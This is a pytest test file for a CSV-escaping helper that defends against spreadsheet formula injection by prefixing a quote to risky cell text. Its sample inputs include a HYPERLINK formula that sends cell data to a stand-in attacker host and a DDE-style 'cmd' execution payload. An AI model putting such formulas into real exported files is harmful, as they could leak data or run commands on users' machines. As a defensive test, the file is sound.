"""Text that a spreadsheet would run as a formula is written as text in every CSV we produce."""

from __future__ import annotations

import csv
import datetime as dt
import doctest
from pathlib import Path

import pytest

from accel import csv_cells
from accel.csv_cells import spreadsheet_cell
from tasks.simulation import SentMessage, SimulationResult, write_summary

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_the_examples_in_the_docstrings_are_true() -> None:
    result = doctest.testmod(csv_cells)
    assert result.attempted > 0 and result.failed == 0


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
)
def test_text_starting_a_formula_gets_a_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Santiago", "https://x.example/=1", "", "a=b", 3, -3, 0.5, None])
def test_other_text_and_numbers_are_left_alone(value: object) -> None:
    assert spreadsheet_cell(value) == value


def test_the_simulation_summary_writes_formulas_as_text(tmp_path: Path) -> None:
    sent = dt.datetime(2024, 7, 1, 15, tzinfo=dt.UTC)
    result = SimulationResult(
        tmp_path,
        messages=[
            SentMessage(1, "invitation", "@evil@x.example", HYPERLINK, sent, "America/Bogota"),
            SentMessage(2, "-reminder", "ana@x.example", "bogota", sent, "America/Bogota"),
        ],
    )
    with write_summary(result).open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["section", "key", "messages", "detail"]
    assert ["city", "'" + HYPERLINK, "1", ""] in rows
    assert ["kind", "'-reminder", "1", ""] in rows
    assert ["busiest_day", "'@evil@x.example", "1", "2024-07-01"] in rows
    assert ["busiest_day", "ana@x.example", "1", "2024-07-01"] in rows
    assert ["week", "2024-W27", "2", ""] in rows
